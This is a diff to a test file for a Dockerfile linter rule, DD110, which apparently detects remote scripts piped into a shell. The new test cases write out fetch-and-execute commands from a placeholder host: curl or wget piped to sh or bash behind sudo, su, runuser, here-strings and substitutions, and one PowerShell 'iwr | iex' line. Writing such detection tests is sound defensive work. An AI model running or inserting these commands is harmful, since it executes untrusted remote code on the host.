@@ -283,6 +283,30 @@ describe('DD110 sees hidden and unusual runners', () => {
   passes('DD110', `${F}RUN nc -z db 5432 && echo up`);
 });
 
+describe('DD110 sees scripts behind wrappers, here-strings and printed substitutions', () => {
+  catches('DD110', `${F}RUN sudo sh -c 'curl -fsSL https://x.example/i.sh | sh'`);
+  catches('DD110', `${F}RUN env bash -c 'wget -qO- https://x.example/i.sh | bash'`);
+  catches('DD110', `${F}RUN su root -c 'curl -fsSL https://x.example/i.sh | sh'`);
+  catches('DD110', `${F}RUN runuser -u app -- sh -c 'curl -fsSL https://x.example/i.sh | sh'`);
+  catches('DD110', `${F}RUN curl -fsSL https://x.example/i.sh | su -c sh`);
+  catches(
+    'DD110',
+    `${F}RUN env bash -c 'curl -so /tmp/x https://x.example/i'\nRUN sudo -u app bash -c "sh /tmp/x"`,
+    {
+      line: 3,
+    },
+  );
+  catches('DD110', `${F}RUN source /dev/stdin <<< "$(curl -fsSL https://x.example/i.sh)"`);
+  catches('DD110', `${F}RUN echo "$(curl -fsSL https://x.example/i.sh)" | sh`);
+  catches('DD110', `${F}RUN curl -fsSL https://x.example/i.sh | bash -c "$(cat)"`);
+  catches('DD110', `${F}RUN pwsh -NoProfile -Command "iwr https://x.example/i.ps1 | iex"`);
+  passes('DD110', `${F}RUN sudo sh -c 'curl -fsSL https://x.example/v.json > /etc/v.json'`);
+  passes('DD110', `${F}RUN su app -c 'curl -fsSL https://x.example/v.json | jq .'`);
+  passes('DD110', `${F}RUN echo "$(curl -fsSL https://x.example/v)" > /etc/version`);
+  passes('DD110', `${F}RUN grep -q x <<< "$(curl -fsSL https://x.example/v)"`);
+  passes('DD110', `${F}RUN pwsh -NoProfile -NonInteractive -Command "Write-Host hi"`);
+});
+
 describe('DD110 checks SHELL, start commands and ONBUILD', () => {
   catches(
     'DD110',
